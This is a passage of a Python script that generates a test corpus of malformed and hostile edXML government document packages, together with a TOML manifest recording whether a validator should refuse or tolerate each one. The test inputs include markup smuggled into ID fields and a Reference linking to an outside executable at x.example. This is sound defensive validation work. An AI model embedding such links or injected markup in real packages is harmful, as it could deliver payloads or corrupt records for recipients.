                    f"<edXML:ContentId>cid:{CID}<?x?></edXML:ContentId>"))),
        Case("business-documentid-comment.edxml", "edxml.markup_in_field",
             "Bussiness/DocumentId (the document updated) split by a comment",
             u8(with_business(CLEAN, sub(BUSINESS_UPDATE, business_id,
                                         business_id.replace(",", ",<!---->", 1))))),
    ]


# The national SDK's replace (BussinessDocType 3), in the shape of its data model
# (Bussiness + ReplacementInfoList/ReplacementInfo{DocumentId, OrganIdList/OrganId}, no
# Bussiness/DocumentId: spec §3), naming a document of the base package's sender.
REPLACED_ID = "000.00.15.H51,2019/01/10,1223400/PRO-TEST-CASE1"
REPLACE_SDK = """<edXML:Bussiness>
          <edXML:BussinessDocType>3</edXML:BussinessDocType>
          <edXML:BussinessDocReason>Thay thế văn bản</edXML:BussinessDocReason>
          <edXML:Paper>0</edXML:Paper>
          <edXML:StaffInfo>
            <edXML:Department>Văn thư</edXML:Department>
            <edXML:Staff>Nguyễn Văn A</edXML:Staff>
          </edXML:StaffInfo>
          <edXML:ReplacementInfoList>
            <edXML:ReplacementInfo>
              <edXML:DocumentId>{document_id}</edXML:DocumentId>
              <edXML:OrganIdList>
                <edXML:OrganId>000.00.15.H51</edXML:OrganId>
              </edXML:OrganIdList>
            </edXML:ReplacementInfo>
          </edXML:ReplacementInfoList>
        </edXML:Bussiness>"""


def business_cases() -> list[Case]:
    no_id = resub(REPLACE_SDK.format(document_id=REPLACED_ID),
                  r"\s*<edXML:DocumentId>[^<]*</edXML:DocumentId>", "")
    return [
        Case("replace-replacementinfo-without-documentid.edxml", "edxml.missing_element",
             "a replace whose ReplacementInfo names agencies but no DocumentId",
             u8(with_business(CLEAN, no_id)), path=BUSINESS),
        Case("replace-referenced-date.edxml", "edxml.referenced_date_invalid",
             "the replaced document's id carries 2019/02/30",
             u8(with_business(CLEAN, REPLACE_SDK.format(
                 document_id="000.00.15.H51,2019/02/30,1223400/PRO-TEST-CASE1"))),
             warning=True, path=f"{BUSINESS}/ReplacementInfoList"),
    ]


XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'


def reference_attribute_cases() -> list[Case]:
    return [
        Case("reference-xlink-other-attachment.edxml", "edxml.reference_link_mismatch",
             "xlink:href points at another ContentId than the Reference's own",
             u8(sub(CLEAN, "<edXML:Reference>",
                    f'<edXML:Reference {XLINK} xlink:href="cid:other" xlink:type="simple">')),
             path=REF),
        Case("reference-xlink-url.edxml", "edxml.reference_link_mismatch",
             "xlink:href to a URL outside the package",
             u8(sub(CLEAN, "<edXML:Reference>",
                    f'<edXML:Reference {XLINK} xlink:href="http://x.example/a.exe">'))),
        Case("reference-unqualified-attribute.edxml", "edxml.schema_invalid",
             "an unqualified attribute on Reference (only foreign namespaces are tolerated)",
             u8(sub(CLEAN, "<edXML:Reference>", f'<edXML:Reference href="cid:{CID}">'))),
    ]


def hardening_tolerated() -> list[Tolerated]:
    return [
        Tolerated("ok-replace-sdk-sample.edxml",
                  "the national SDK's replace (BussinessDocType 3): the replaced document "
                  "in ReplacementInfoList/ReplacementInfo/DocumentId, no Bussiness/DocumentId",
                  u8(with_business(CLEAN, REPLACE_SDK.format(document_id=REPLACED_ID)))),
        Tolerated("ok-reference-xlink.edxml",
                  "ebXML-style xlink:href='cid:…' and xlink:type on Reference (spec §7a)",
                  u8(sub(CLEAN, "<edXML:Reference>",
                         f'<edXML:Reference {XLINK} xlink:href="cid:{CID}" '
                         'xlink:type="simple">'))),
        Tolerated("ok-attachment-foreign-attribute.edxml",
                  "a vendor attribute in its own namespace on Attachment",
                  u8(sub(CLEAN, "<Attachment>",
                         '<Attachment xmlns:v="urn:vendor:qlvb" v:size="1">'))),
        Tolerated("ok-organid-cdata-whole.edxml",
                  "To/OrganId entirely inside one CDATA section: one text node",
                  u8(in_block(CLEAN, "To", "<edXML:OrganId>000.00.15.H51</edXML:OrganId>",
                              "<edXML:OrganId><![CDATA[000.00.15.H51]]></edXML:OrganId>"))),
        Tolerated("ok-comment-in-subject.edxml",
                  "a comment inside Subject (free text, read whole: text around it joined)",
                  u8(set_text(CLEAN, "Subject", "Văn bản liên thông<!-- nháp --> chỉ đạo"))),
        Tolerated("ok-octet-stream-pdf.edxml",
                  "a PDF declared application/octet-stream: judged by name (.PDF) and bytes",
                  u8(with_payload(PDF, "application/octet-stream"))),
        Tolerated("ok-name-without-extension.edxml",
                  "an attachment named 'user-zip' (no extension, as in the SDK's samples)",
                  u8(ref_name("user-zip", att_name("user-zip")))),
        Tolerated("ok-name-numeric-suffix.edxml",
                  "a PDF named 'Báo cáo Q1.2020': a numeric suffix is no extension",
                  u8(ref_name("Báo cáo Q1.2020", att_name(
                      "Báo cáo Q1.2020", with_payload(PDF, "application/pdf"))))),
        Tolerated("ok-description-with-slash.edxml",
                  "a Description naming the document '12/UBND-VP' (a label may hold '/')",
                  u8(att_description("Công văn số 12/UBND-VP"))),
    ]


def all_cases() -> tuple[list[Case], list[Tolerated]]:
    cases = (prolog_cases() + hostile_xml_cases() + limit_cases() + structure_cases()
             + document_rule_cases() + status_rule_cases() + attachment_cases()
             + warning_cases() + length_cases() + name_cases() + type_cases()
             + markup_cases() + business_cases() + reference_attribute_cases())
    return cases, tolerated_cases() + hardening_tolerated()


# --- output ---------------------------------------------------------------------------


def _toml_str(s: str) -> str:
    return json.dumps(s, ensure_ascii=False)  # a JSON string is a TOML basic string


def _toml_value(v: int | bool) -> str:
    return ("true" if v else "false") if isinstance(v, bool) else str(v)


def manifest(cases: list[Case], tolerated: list[Tolerated]) -> str:
    out = [
        "# The golden corpus of bad and hostile edXML packages.",
        "# Generated by tools/make_edxml_cases.py: do not edit by hand, edit the script.",
        "# [[case]]: refused with `expect` (or accepted with that warning when warning = true);",
        "# `settings` overrides EdxmlSettings; `path` is the expected path of the finding.",
        "# [[tolerated]]: odd but valid, accepted with no error and no warning.",
        "",
    ]
    for c in cases:
        out.append("[[case]]")
        out.append(f"file = {_toml_str(c.file)}")
        out.append(f"expect = {_toml_str(c.expect)}")
        if c.warning:
            out.append("warning = true")
        if c.settings:
            inner = ", ".join(f"{k} = {_toml_value(v)}" for k, v in c.settings.items())
            out.append(f"settings = {{ {inner} }}")
        if c.path:
            out.append(f"path = {_toml_str(c.path)}")
        out.append(f"why = {_toml_str(c.why)}")
        out.append("")
    for t in tolerated:
        out.append("[[tolerated]]")
        out.append(f"file = {_toml_str(t.file)}")
        out.append(f"why = {_toml_str(t.why)}")
        out.append("")
    return "\n".join(out)


def render() -> dict[str, bytes]:
    """Every file of the corpus by name, the manifest included."""
    cases, tolerated = all_cases()
    files: dict[str, bytes] = {}
    items: list[Case | Tolerated] = [*cases, *tolerated]
    for item in items:
        if item.file in files:
            raise SystemExit(f"make_edxml_cases: duplicate file name {item.file}")
        if len(item.data) >= MAX_CASE_BYTES:
            raise SystemExit(f"make_edxml_cases: {item.file} is {len(item.data)} bytes")
        files[item.file] = item.data
    files[MANIFEST.name] = manifest(cases, tolerated).encode("utf-8")
    return files


def main() -> int:
    files = render()
    OUT.mkdir(parents=True, exist_ok=True)
    for stale in OUT.iterdir():
        if stale.is_file() and stale.name not in files:
            stale.unlink()
    for name, data in files.items():
        (OUT / name).write_bytes(data)
    cases = sum(1 for n in files if n != MANIFEST.name)
    print(f"wrote {cases} files and {MANIFEST.relative_to(REPO)}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
